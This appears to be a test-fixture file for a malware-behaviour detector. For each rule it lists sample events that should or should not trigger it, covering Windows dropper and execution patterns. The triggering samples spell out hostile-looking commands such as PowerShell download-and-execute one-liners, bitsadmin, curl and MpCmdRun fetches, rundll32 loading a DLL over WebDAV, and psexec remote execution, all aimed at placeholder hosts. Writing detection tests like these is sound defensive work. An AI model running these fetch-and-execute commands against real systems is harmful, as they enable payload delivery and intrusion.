import { dropped } from '../containers.js'
import { call, copy, create, download, type Example, type Examples, load, run, script, write } from '../worlds.js'

const commands = (...lines: readonly string[]): readonly Example[] => lines.map((line) => [run(line)])
const temp = 'C:\\Users\\u\\AppData\\Local\\Temp'

export const execution: Examples = {
  dropper_writes_program: {
    fires: [
      [write(`${temp}\\a.bin`, 'MZ\\x90\\x00')],
      dropped('a.exe', 'PE32 executable (GUI) Intel 80386, for MS Windows'),
    ],
    silent: [
      [write(`${temp}\\a.txt`, 'Mister')],
      { process: 'msiexec.exe', steps: [write('C:\\a.dll', 'MZ')] },
      dropped('a.txt', 'ASCII text'),
    ],
  },
  dropper_runs_program: {
    fires: [
      [write(`${temp}\\a.exe`), run(`"${temp}\\A.EXE" /q`)],
      [create(`${temp}\\a.exe`), run(`${temp}\\a.exe`)],
    ],
    silent: [
      [write(`${temp}\\a.exe`), run(`${temp}\\b.exe`)],
      [run(`${temp}\\a.exe`), write(`${temp}\\a.exe`)],
    ],
  },
  dropper_runs_copy: {
    fires: [[copy('C:\\a.exe', `${temp}\\b.exe`), run(`${temp}\\b.exe`)]],
    silent: [
      [copy('C:\\a.exe', `${temp}\\b.exe`), run('C:\\a.exe')],
      [
        copy('C:\\Program Files\\x\\uninstall.exe', `${temp}\\~nsuA.tmp\\Un_A.exe`),
        run(`${temp}\\~nsuA.tmp\\Un_A.exe`),
      ],
    ],
  },
  dropper_fetches_and_runs: {
    fires: [[download('http://x/a', `${temp}\\a.exe`), run(`${temp}\\a.exe`)]],
    silent: [[download('http://x/a', `${temp}\\a.exe`)]],
  },
  dropper_double_extension: {
    fires: [[write(`${temp}\\invoice.pdf.exe`)], { file: { name: 'invoice.docx   .scr' } }],
    silent: [[write(`${temp}\\a.exe`)], { file: { name: 'invoice.pdf' } }],
  },
  dropper_script: {
    fires: [[write(`${temp}\\a.vbs`)]],
    silent: [
      [write(`${temp}\\__PSScriptPolicyTest_vt2fgsgy.i54.ps1`)],
      [write('C:\\Program Files\\x\\a.vbs')],
      [write(`${temp}\\a.log`)],
    ],
  },
  execution_from_public_folder: {
    fires: commands('C:\\Users\\Public\\a.exe', '"C:\\Windows\\Fonts\\a.exe" x'),
    silent: commands('C:\\Program Files\\a.exe', 'C:\\Windows\\System32\\cmd.exe'),
  },
  execution_powershell_download: {
    fires: commands(
      "powershell (New-Object Net.WebClient).DownloadString('http://x')",
      'powershell iwr http://x -OutFile a',
    ),
    silent: commands('powershell Get-Date'),
  },
  execution_powershell_expression: {
    fires: commands('powershell IEX $x', 'powershell [Convert]::FromBase64String($x)'),
    silent: commands('powershell Get-Index'),
  },
  execution_script_host: {
    fires: commands(`wscript.exe "${temp}\\a.js"`),
    silent: commands('cscript.exe C:\\Windows\\System32\\slmgr.vbs'),
  },
  execution_script_object: {
    fires: [[script('var s = new ActiveXObject("WScript.Shell")')], [script("CreateObject( 'ADODB.Stream')")]],
    silent: [[script('var d = new Date()')]],
  },
  execution_bits: { fires: commands('bitsadmin /transfer j http://x/a C:\\a'), silent: commands('bitsadmin /list') },
  execution_curl: { fires: commands('curl -o a http://x/a'), silent: commands('curl --version') },
  execution_remote_wmi: {
    fires: commands('wmic process call create "calc.exe"'),
    silent: commands('wmic process list'),
  },
  execution_remote_service: {
    fires: commands('psexec \\\\host -s cmd', 'wmic /node:host os get x'),
    silent: commands('psexec -?'),
  },
  office_starts_interpreter: {
    fires: [{ process: 'WINWORD.EXE', steps: [run('cmd.exe /c powershell x')] }],
    silent: [...commands('cmd.exe /c x'), { process: 'WINWORD.EXE', steps: [run('splwow64.exe 12288')] }],
  },
  office_writes_program: {
    fires: [{ process: 'EXCEL.EXE', steps: [write(`${temp}\\a.exe`)] }],
    silent: [{ process: 'EXCEL.EXE', steps: [write(`${temp}\\a.xlsx`)] }, [write(`${temp}\\a.exe`)]],
  },
  office_runs_macro: {
    fires: [
      { process: 'WINWORD.EXE', steps: [load('C:\\Program Files\\Common Files\\VBE7.DLL')] },
      [call('vbe6_Invoke')],
    ],
    silent: [{ process: 'WINWORD.EXE', steps: [load('mso.dll')] }],
  },
  office_downloads: {
    fires: [{ process: 'WINWORD.EXE', steps: [download('http://x/a', 'C:\\a')] }],
    silent: [[download('http://x/a', 'C:\\a')]],
  },
  office_equation_editor: {
    fires: [{ process: 'EQNEDT32.EXE', steps: [run('cmd /c x')] }],
    silent: [{ process: 'WINWORD.EXE', steps: [run('EQNEDT32.EXE -Embedding')] }],
  },
  pdf_reader_starts_program: {
    fires: [{ process: 'AcroRd32.exe', steps: [run('cmd.exe /c x')] }],
    silent: [{ process: 'AcroRd32.exe', steps: [run('RdrCEF.exe --type=renderer')] }],
  },
  browser_starts_interpreter: {
    fires: [{ process: 'iexplore.exe', steps: [run('powershell.exe x')] }],
    silent: [{ process: 'chrome.exe', steps: [run('chrome.exe --type=gpu')] }],
  },
  execution_autoit: {
    fires: [
      [run('AutoIt3.exe C:\\x.au3')],
      [run('Jsc.com D.a3x')],
      [write(`${temp}\\s.a3x`)],
      { static: { pe_versioninfo: [{ name: 'FileDescription', value: 'AutoIt v3 Script' }] } },
    ],
    silent: [[run('auto.exe x.txt')], { static: { pe_versioninfo: [{ name: 'FileDescription', value: 'Editor' }] } }],
  },
  execution_tool_fetches: {
    fires: [
      [run('MpCmdRun.exe -DownloadFile -url http://x/y -path C:\\y')],
      [run('finger nobody@203.0.113.5')],
      [run('esentutl.exe /y \\\\203.0.113.5\\a\\x.exe /d C:\\x.exe /o')],
      [run('expand \\\\203.0.113.5\\a\\x.cab C:\\x')],
    ],
    silent: [[run('MpCmdRun.exe -Scan')], [run('esentutl /y C:\\a.db /d C:\\b.db')], [run('expand C:\\a.cab C:\\x')]],
  },
  execution_web_folder: {
    fires: [
      [run('rundll32 \\\\203.0.113.5@80\\DavWWWRoot\\x.dll,a')],
      [run('wscript \\\\files.example@SSL\\a\\x.js')],
      [run('net use z: https://files.example/a')],
    ],
    silent: [[run('wscript \\\\server\\share\\login.vbs')], [run('net use z: \\\\server\\share')]],
  },
}
